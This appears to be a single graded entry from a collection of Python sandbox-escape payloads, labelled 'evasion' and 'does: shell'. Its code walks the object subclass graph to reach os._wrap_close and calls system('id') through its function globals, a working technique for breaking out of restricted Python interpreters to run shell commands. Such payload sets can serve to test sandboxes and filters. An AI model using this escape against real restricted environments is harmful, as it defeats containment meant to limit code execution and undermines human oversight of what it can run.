# evasion: object graph walk through __subclasses__
# grade: hard; does: shell
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("id")
